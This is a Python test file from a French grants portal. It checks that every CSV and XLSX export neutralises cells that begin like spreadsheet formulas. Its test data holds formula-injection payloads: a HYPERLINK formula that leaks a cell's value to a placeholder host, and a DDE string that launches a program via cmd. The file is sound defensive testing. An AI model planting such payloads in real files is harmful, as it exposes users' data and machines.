"""Formula injection: a laureate renames its tiers-lieu, structure and commune so that each begins with
a character a spreadsheet reads as a formula, then every export of the portal is downloaded and read
back — the instruction CSV and XLSX, the public laureate lists (cumulated and per wave), the directory
export and the SCDL grants file. Every such cell comes back neutralised (a leading single quote), and
the XLSX holds strings, never formulas."""

import csv
import datetime as dt
import io
import pathlib

import pytest
import time_machine
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from candidatures.models import Decision, Vague
from commun.exports import DEBUTS_DANGEREUX, EcrivainCsv, neutraliser
from financement.models import Subvention
from financement.services import subvention_notifier, subvention_signer_convention
from selection.services.comite import comite_clore, decision_enregistrer
from selection.services.publication import vague_publier
from tests.candidatures import factories_instruction as fi

pytestmark = pytest.mark.django_db
MIDI = dt.datetime(2026, 7, 20, 10, tzinfo=dt.UTC)


def _charges(debut: str) -> dict:
    """What the laureate types in its tiers-lieu's fields, each beginning with ``debut``."""
    return {
        "nom": f'{debut}HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")',
        "structure_porteuse": f"{debut}cmd|' /C calc'!A0",
        "commune": f"{debut}1+1",
    }


@pytest.fixture
def laureat(administrateur, django_capture_on_commit_callbacks):
    """A published wave whose laureate holds a signed grant (so it is in every export)."""
    with time_machine.travel(MIDI, tick=False):
        vague = fi.vague(numero=7, titre="Vague 2 de 2026", date_ouverture=dt.date(2026, 3, 31), date_limite=dt.date(2026, 6, 30))
        fi.vague(
            numero=8,
            titre="Vague 3 de 2026",
            date_ouverture=dt.date(2026, 7, 1),
            date_limite=dt.date(2026, 9, 30),
            statut=Vague.Statut.OUVERTE,
        )
        dossier = fi.dossier(vague_=vague, tl=fi.tiers_lieu("84", nom="Le Lieu Sage", site_web="https://lieu.example.fr"))
        decision_enregistrer(dossier=dossier, resultat=Decision.Resultat.RETENU, par=administrateur)
        comite_clore(vague=vague, par=administrateur)
        with django_capture_on_commit_callbacks(execute=True):
            vague_publier(vague=vague, par=administrateur)
    dossier.refresh_from_db()
    with django_capture_on_commit_callbacks(execute=True):
        subvention = Subvention.objects.get(dossier=dossier)  # proposed by the committee's decision
        subvention_notifier(subvention=subvention, par=administrateur)
        subvention_signer_convention(subvention=subvention, date_signature=dt.date(2026, 7, 15), par=administrateur)
    return dossier


def _contenu(reponse) -> bytes:
    assert reponse.status_code == 200
    return b"".join(reponse.streaming_content) if reponse.streaming else reponse.content


def _cellules_csv(reponse) -> list[str]:
    lignes = csv.reader(io.StringIO(_contenu(reponse).decode("utf-8-sig"), newline=""), delimiter=";")
    return [cellule for ligne in lignes for cellule in ligne]


EXPORTS_CSV = {
    "instruction (CSV)": lambda c: c.get(reverse("candidatures:instruction_export", kwargs={"format": "csv"})),
    "instruction (API, CSV)": lambda c: c.get(reverse("api-instruction-export"), {"type": "csv"}),
    "lauréats, liste cumulée": lambda c: c.get(reverse("candidatures:laureats_csv")),
    "lauréats de la vague": lambda c: c.get(reverse("candidatures:laureats_vague_csv", kwargs={"numero": 7})),
    "annuaire": lambda c: c.get(reverse("fabriques:export_csv")),
    "subventions (SCDL)": lambda c: c.get(reverse("financement:opendata_csv")),
}
EXPORTS_XLSX = {
    "instruction (XLSX)": lambda c: c.get(reverse("candidatures:instruction_export", kwargs={"format": "xlsx"})),
    "instruction (API, XLSX)": lambda c: c.get(reverse("api-instruction-export"), {"type": "xlsx"}),
}
# Which of the laureate's fields each export writes (the SCDL names the beneficiary by its structure).
CHAMPS = {
    "instruction (CSV)": ("nom", "structure_porteuse", "commune"),
    "instruction (API, CSV)": ("nom", "structure_porteuse", "commune"),
    "instruction (XLSX)": ("nom", "structure_porteuse", "commune"),
    "instruction (API, XLSX)": ("nom", "structure_porteuse", "commune"),
    "lauréats, liste cumulée": ("nom", "structure_porteuse", "commune"),
    "lauréats de la vague": ("nom", "structure_porteuse", "commune"),
    "annuaire": ("nom", "structure_porteuse", "commune"),
    "subventions (SCDL)": ("structure_porteuse",),
}


def _dangereuse(cellule) -> bool:
    return isinstance(cellule, str) and cellule.startswith(DEBUTS_DANGEREUX) and neutraliser(cellule) != cellule


@pytest.mark.parametrize("debut", DEBUTS_DANGEREUX, ids=repr)
def test_chaque_export_neutralise_les_cellules_qui_commencent_comme_une_formule(client, administrateur, laureat, debut):
    lieu = laureat.tiers_lieu
    charges = _charges(debut)
    for champ, valeur in charges.items():
        setattr(lieu, champ, valeur)
    lieu.save()  # a laureate may change its tiers-lieu at any time: the public files follow
    cache.clear()
    client.force_login(administrateur)
    for nom, telecharger in EXPORTS_CSV.items():
        cellules = _cellules_csv(telecharger(client))
        assert not [c for c in cellules if _dangereuse(c)], nom
        for champ in CHAMPS[nom]:
            assert "'" + charges[champ] in cellules, (nom, champ)
    for nom, telecharger in EXPORTS_XLSX.items():
        classeur = load_workbook(io.BytesIO(_contenu(telecharger(client))))
        cellules = [cellule for feuille in classeur for ligne in feuille.iter_rows() for cellule in ligne]
        assert not [c.coordinate for c in cellules if c.data_type == "f"], nom  # no formula at all
        valeurs = [c.value for c in cellules]
        assert not [v for v in valeurs if _dangereuse(v)], nom
        for champ in CHAMPS[nom]:  # (an XML reader reads a carriage return as a line feed)
            assert ("'" + charges[champ]).replace("\r", "\n") in valeurs, (nom, champ)


def test_les_montants_restent_des_nombres():
    """An amount is not porteur text: numbers, and strings that are only a number, are written as is."""
    from decimal import Decimal

    ligne = EcrivainCsv().ligne([Decimal("-1250.00"), -3, "-1250.00", "+33", "-2+3", "=1+1", "Normal", None])
    assert next(csv.reader([ligne], delimiter=";")) == ["-1250.00", "-3", "-1250.00", "+33", "'-2+3", "'=1+1", "Normal", ""]


def test_aucun_export_n_ecrit_sans_l_ecrivain_commun():
    """The CSV and XLSX writers of the standard library and of openpyxl are used in commun/exports.py only."""
    racine = pathlib.Path(__file__).resolve().parents[2]
    interdits = ("csv.writer(", "csv.DictWriter(", "Workbook(", "tablib", "xlsxwriter")
    fautifs = []
    for fichier in racine.glob("*/**/*.py"):
        relatif = fichier.relative_to(racine).as_posix()
        if relatif.startswith((".venv/", "tests/", "bench/", "scripts/")) or relatif == "commun/exports.py":
            continue
        texte = fichier.read_text(encoding="utf-8")
        fautifs += [f"{relatif} : {motif}" for motif in interdits if motif in texte]
    assert not fautifs
